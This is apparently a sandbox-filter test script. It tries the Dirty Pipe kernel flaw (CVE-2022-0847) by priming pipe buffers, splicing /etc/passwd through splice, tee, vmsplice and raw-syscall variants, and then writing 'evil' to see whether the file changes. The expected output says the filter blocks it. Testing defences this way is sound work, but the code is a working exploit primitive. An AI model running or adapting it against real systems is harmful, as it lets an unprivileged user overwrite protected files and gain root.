# Dirty Pipe: pages of a file that is only readable are put into a pipe, and a write to the pipe goes into the
# file. With splice, tee and vmsplice by their calls, and as Python offers them.
# hole: CVE-2022-0847 (Linux 5.8 to 5.16): any user could overwrite any readable file
# stopped by: filter
# expect: {"status": "ok", "stdout": "nothing\n", "stderr": ""}
import ctypes, errno, os, platform

libc = ctypes.CDLL(None, use_errno=True)
SPLICE, TEE, VMSPLICE = (275, 276, 278) if platform.machine() == "x86_64" else (76, 77, 75)
target = os.open("/etc/passwd", os.O_RDONLY)
before = os.pread(target, 64, 0)
(r, w), (r2, w2) = os.pipe(), os.pipe()
for _ in range(2):  # every place of the pipe gets the mark by which a later write may go on in its page
    os.set_blocking(w, False)
    filled = 0
    try:
        while True:
            filled += os.write(w, b"x" * 4096)
    except BlockingIOError:
        pass
    while filled > 1:
        filled -= len(os.read(r, filled - 1))
    os.read(r, 1)


def absent(name, result):
    if result >= 0 or ctypes.get_errno() != errno.ENOSYS:
        print(name, result, ctypes.get_errno())


offset, text = ctypes.c_longlong(0), ctypes.create_string_buffer(4096)
part = (ctypes.c_void_p * 2)(ctypes.addressof(text), 4096)
for flags in (0, 1, 2, 8):
    absent("splice", libc.syscall(SPLICE, target, ctypes.byref(offset), w, None, ctypes.c_long(1), flags))
    absent("tee", libc.syscall(TEE, r, w2, ctypes.c_long(1), flags))
    absent("vmsplice", libc.syscall(VMSPLICE, w, part, ctypes.c_long(1), flags))
    absent("splice", libc.syscall(ctypes.c_long(SPLICE | 1 << 32), target, None, w, None, ctypes.c_long(1), flags))
try:
    os.splice(target, w, 1, offset_src=0)
    print("os.splice")
except OSError as error:
    if error.errno != errno.ENOSYS:
        print(error)
except AttributeError:  # before 3.10
    pass
os.write(w, b"evil")
if os.pread(target, 64, 0) != before:
    print("wrote into the file")
print("nothing")
